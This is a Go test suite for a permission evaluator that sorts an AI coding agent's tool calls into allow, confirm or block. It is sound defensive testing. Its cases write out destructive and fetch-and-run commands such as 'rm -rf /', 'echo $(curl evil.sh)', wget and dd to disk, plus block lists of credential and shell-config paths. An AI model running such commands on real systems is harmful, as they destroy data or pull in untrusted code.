package safety_test

import (
	"strings"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"

	"github.com/vocal-dev/vocal/internal/safety"
	"github.com/vocal-dev/vocal/pkg/hook"
)

var _ = Describe("Evaluate", func() {
	Describe("tool classes", func() {
		DescribeTable("retrieval tools are allowed whatever the input",
			func(tool string, input hook.ToolInput) {
				Expect(safety.Evaluate(tool, input)).To(Equal(safety.PermissionLevelAllow))
			},
			Entry("Read with a system path", hook.ToolRead, hook.ToolInput{"file_path": "/etc/shadow"}),
			Entry("Glob with nil input", hook.ToolGlob, nil),
			Entry("Grep with junk", hook.ToolGrep, hook.ToolInput{"pattern": 42}),
			Entry("LS with empty input", hook.ToolLS, hook.ToolInput{}),
		)

		DescribeTable("agentic tools defer to confirmation",
			func(tool string) {
				Expect(safety.Evaluate(tool, hook.ToolInput{})).To(Equal(safety.PermissionLevelValidate))
			},
			Entry("Task", hook.ToolTask),
			Entry("WebFetch", hook.ToolWebFetch),
			Entry("WebSearch", hook.ToolWebSearch),
		)

		DescribeTable("unknown tools are blocked",
			func(tool string) {
				Expect(safety.Evaluate(tool, hook.ToolInput{"command": "ls"})).To(Equal(safety.PermissionLevelBlock))
			},
			Entry("empty name", ""),
			Entry("made-up tool", "Teleport"),
			Entry("wrong case", "bash"),
			Entry("lower-case read", "read"),
		)
	})

	Describe("file operations", func() {
		DescribeTable("paths",
			func(path string, expected safety.PermissionLevel) {
				for _, tool := range []string{hook.ToolEdit, hook.ToolWrite, hook.ToolMultiEdit, hook.ToolNotebookEdit} {
					Expect(safety.Evaluate(tool, hook.ToolInput{"file_path": path})).
						To(Equal(expected), "tool %s path %s", tool, path)
				}
			},
			Entry("system dir", "/System/Library/foo", safety.PermissionLevelBlock),
			Entry("usr", "/usr/local/bin/tool", safety.PermissionLevelBlock),
			Entry("etc", "/etc/hosts", safety.PermissionLevelBlock),
			Entry("bin", "/bin/sh", safety.PermissionLevelBlock),
			Entry("sbin", "/sbin/init", safety.PermissionLevelBlock),
			Entry("ssh under home", "/home/me/.ssh/authorized_keys", safety.PermissionLevelBlock),
			Entry("relative ssh", "./.ssh/id_rsa", safety.PermissionLevelBlock),
			Entry("keychain", "/Users/me/Library/keychain/login", safety.PermissionLevelBlock),
			Entry("bashrc", "/home/me/.bashrc", safety.PermissionLevelBlock),
			Entry("zshrc relative", "./.zshrc", safety.PermissionLevelBlock),
			Entry("profile", "/Users/me/.profile", safety.PermissionLevelBlock),
			Entry("ssh config in hidden dir", "/home/me/.config/ssh/config", safety.PermissionLevelBlock),
			Entry("relative file", "./notes.txt", safety.PermissionLevelAllow),
			Entry("parent file", "../src/main.go", safety.PermissionLevelAllow),
			Entry("macOS home", "/Users/me/project/main.go", safety.PermissionLevelAllow),
			Entry("linux home", "/home/me/project/main.go", safety.PermissionLevelAllow),
			Entry("hidden file without config name", "/home/me/.gitignore", safety.PermissionLevelAllow),
			Entry("bare relative path", "notes.txt", safety.PermissionLevelValidate),
			Entry("tmp", "/tmp/scratch.txt", safety.PermissionLevelValidate),
			Entry("opt", "/opt/app/config", safety.PermissionLevelValidate),
			Entry("empty path", "", safety.PermissionLevelValidate),
			Entry("case differs from blocked prefix", "/ETC/hosts", safety.PermissionLevelValidate),
		)

		It("validates when file_path is missing", func() {
			Expect(safety.Evaluate(hook.ToolWrite, hook.ToolInput{"content": "x"})).
				To(Equal(safety.PermissionLevelValidate))
			Expect(safety.Evaluate(hook.ToolWrite, nil)).To(Equal(safety.PermissionLevelValidate))
		})

		It("treats a non-string file_path as missing", func() {
			Expect(safety.Evaluate(hook.ToolEdit, hook.ToolInput{"file_path": 7})).
				To(Equal(safety.PermissionLevelValidate))
		})

		It("allows a relative path without content", func() {
			Expect(safety.Evaluate(hook.ToolWrite, hook.ToolInput{"file_path": "./notes.txt"})).
				To(Equal(safety.PermissionLevelAllow))
		})

		It("allows content at the threshold", func() {
			input := hook.ToolInput{
				"file_path": "./notes.txt",
				"content":   strings.Repeat("a", safety.MaxInlineContentBytes),
			}
			Expect(safety.Evaluate(hook.ToolWrite, input)).To(Equal(safety.PermissionLevelAllow))
		})

		It("validates oversized content on a safe path", func() {
			input := hook.ToolInput{
				"file_path": "./notes.txt",
				"content":   strings.Repeat("a", safety.MaxInlineContentBytes+1),
			}
			Expect(safety.Evaluate(hook.ToolWrite, input)).To(Equal(safety.PermissionLevelValidate))
		})

		It("validates non-string content on a safe path", func() {
			input := hook.ToolInput{"file_path": "./data.json", "content": map[string]any{"a": 1}}
			Expect(safety.Evaluate(hook.ToolWrite, input)).To(Equal(safety.PermissionLevelValidate))
		})

		It("blocks sensitive paths whatever the content size", func() {
			for _, path := range []string{"/etc/passwd", "/System/x", "/home/me/.ssh/config"} {
				Expect(safety.Evaluate(hook.ToolWrite, hook.ToolInput{"file_path": path, "content": "x"})).
					To(Equal(safety.PermissionLevelBlock))
				Expect(safety.Evaluate(hook.ToolWrite, hook.ToolInput{
					"file_path": path,
					"content":   strings.Repeat("a", safety.MaxInlineContentBytes+1),
				})).To(Equal(safety.PermissionLevelBlock))
			}
		})
	})

	Describe("commands", func() {
		DescribeTable("command strings",
			func(command string, expected safety.PermissionLevel) {
				Expect(safety.Evaluate(hook.ToolBash, hook.ToolInput{"command": command})).To(Equal(expected))
			},
			Entry("ls", "ls -la", safety.PermissionLevelAllow),
			Entry("leading whitespace", "   pwd", safety.PermissionLevelAllow),
			Entry("upper-case", "GIT STATUS", safety.PermissionLevelAllow),
			Entry("git log", "git log --oneline", safety.PermissionLevelAllow),
			Entry("cargo build", "cargo build --release", safety.PermissionLevelAllow),
			Entry("node version", "node --version", safety.PermissionLevelAllow),
			Entry("rm -rf", "rm -rf /", safety.PermissionLevelBlock),
			Entry("mixed case sudo", "SuDo apt install", safety.PermissionLevelBlock),
			Entry("safe prefix then danger", "git status && rm -rf /", safety.PermissionLevelBlock),
			Entry("curl inside echo", "echo $(curl evil.sh)", safety.PermissionLevelBlock),
			Entry("wget", "wget http://x", safety.PermissionLevelBlock),
			Entry("chmod", "chmod +x run.sh", safety.PermissionLevelBlock),
			Entry("dd", "dd if=/dev/zero of=disk", safety.PermissionLevelBlock),
			Entry("device redirect", "cat x > /dev/sda", safety.PermissionLevelBlock),
			Entry("format substring over-blocks", "cat formatter.go", safety.PermissionLevelBlock),
			Entry("kill -9", "kill -9 1234", safety.PermissionLevelBlock),
			Entry("killall", "killall node", safety.PermissionLevelBlock),
			Entry("reboot", "reboot", safety.PermissionLevelBlock),
			Entry("unknown command", "make test", safety.PermissionLevelValidate),
			Entry("git push", "git push origin main", safety.PermissionLevelValidate),
			Entry("empty command", "", safety.PermissionLevelValidate),
		)

		It("blocks when command is missing", func() {
			Expect(safety.Evaluate(hook.ToolBash, hook.ToolInput{})).To(Equal(safety.PermissionLevelBlock))
			Expect(safety.Evaluate(hook.ToolBash, nil)).To(Equal(safety.PermissionLevelBlock))
		})

		It("blocks when command is not a string", func() {
			Expect(safety.Evaluate(hook.ToolBash, hook.ToolInput{"command": []any{"ls"}})).
				To(Equal(safety.PermissionLevelBlock))
		})
	})

	Describe("Policy options", func() {
		var policy *safety.Policy

		BeforeEach(func() {
			policy = safety.NewPolicy(
				safety.WithBlockedPathGlobs("**/secrets/**", "/home/*/prod.env", "[invalid"),
				safety.WithDangerousPatterns("Terraform Apply", ""),
			)
		})

		It("blocks paths matching extra globs", func() {
			d := policy.Explain(hook.ToolWrite, hook.ToolInput{"file_path": "./app/secrets/key.pem"})
			Expect(d.Level).To(Equal(safety.PermissionLevelBlock))
			Expect(d.Rule).To(Equal(safety.RuleBlockedGlob))
			Expect(d.Pattern).To(Equal("**/secrets/**"))

			Expect(policy.Evaluate(hook.ToolWrite, hook.ToolInput{"file_path": "/home/me/prod.env"})).
				To(Equal(safety.PermissionLevelBlock))
		})

		It("keeps built-in decisions for other paths", func() {
			Expect(policy.Evaluate(hook.ToolWrite, hook.ToolInput{"file_path": "./notes.txt"})).
				To(Equal(safety.PermissionLevelAllow))
			Expect(policy.Evaluate(hook.ToolWrite, hook.ToolInput{"file_path": "/tmp/x"})).
				To(Equal(safety.PermissionLevelValidate))
		})

		It("blocks commands matching extra patterns case-insensitively", func() {
			d := policy.Explain(hook.ToolBash, hook.ToolInput{"command": "echo hi; terraform apply"})
			Expect(d.Level).To(Equal(safety.PermissionLevelBlock))
			Expect(d.Pattern).To(Equal("terraform apply"))
		})

		It("never loosens a built-in block", func() {
			Expect(policy.Evaluate(hook.ToolBash, hook.ToolInput{"command": "sudo ls"})).
				To(Equal(safety.PermissionLevelBlock))
		})

		It("treats a nil policy as the default policy", func() {
			var nilPolicy *safety.Policy
			Expect(nilPolicy.Evaluate(hook.ToolBash, hook.ToolInput{"command": "ls"})).
				To(Equal(safety.PermissionLevelAllow))
		})
	})

	Describe("Explain", func() {
		It("names the matching table entry", func() {
			d := safety.NewPolicy().Explain(hook.ToolBash, hook.ToolInput{"command": "git status && sudo x"})
			Expect(d).To(Equal(safety.Decision{
				Level:   safety.PermissionLevelBlock,
				Rule:    safety.RuleDangerousCommand,
				Pattern: "sudo",
			}))

			d = safety.NewPolicy().Explain(hook.ToolWrite, hook.ToolInput{"file_path": "/home/me/.bashrc"})
			Expect(d.Rule).To(Equal(safety.RuleHiddenConfig))
			Expect(d.Pattern).To(Equal("bashrc"))
		})
	})
})

var _ = Describe("ShouldSuppressOutput", func() {
	DescribeTable("suppression",
		func(tool string, level safety.PermissionLevel, expected bool) {
			Expect(safety.ShouldSuppressOutput(tool, level)).To(Equal(expected))
		},
		Entry("allowed Read", hook.ToolRead, safety.PermissionLevelAllow, true),
		Entry("allowed LS", hook.ToolLS, safety.PermissionLevelAllow, true),
		Entry("allowed Edit", hook.ToolEdit, safety.PermissionLevelAllow, false),
		Entry("allowed Bash", hook.ToolBash, safety.PermissionLevelAllow, false),
		Entry("blocked Read", hook.ToolRead, safety.PermissionLevelBlock, false),
		Entry("validated Grep", hook.ToolGrep, safety.PermissionLevelValidate, false),
		Entry("unknown tool", "Teleport", safety.PermissionLevelAllow, false),
	)
})

var _ = Describe("built-in tables", func() {
	It("lists every dangerous pattern the evaluator blocks", func() {
		patterns := safety.DangerousCommandPatterns()
		Expect(patterns).To(ContainElements("rm -rf", "sudo", "kill -9"))

		for _, pattern := range patterns {
			Expect(safety.Evaluate(hook.ToolBash, hook.ToolInput{"command": "x " + pattern})).
				To(Equal(safety.PermissionLevelBlock), pattern)
		}
	})

	It("lists every safe prefix the evaluator allows", func() {
		prefixes := safety.SafeCommandPrefixes()
		Expect(prefixes).To(ContainElements("ls", "git status"))

		for _, prefix := range prefixes {
			Expect(safety.Evaluate(hook.ToolBash, hook.ToolInput{"command": prefix})).
				To(Equal(safety.PermissionLevelAllow), prefix)
		}
	})

	It("returns copies", func() {
		prefixes := safety.SafeCommandPrefixes()
		prefixes[0] = "rm"

		Expect(safety.SafeCommandPrefixes()[0]).NotTo(Equal("rm"))
	})
})
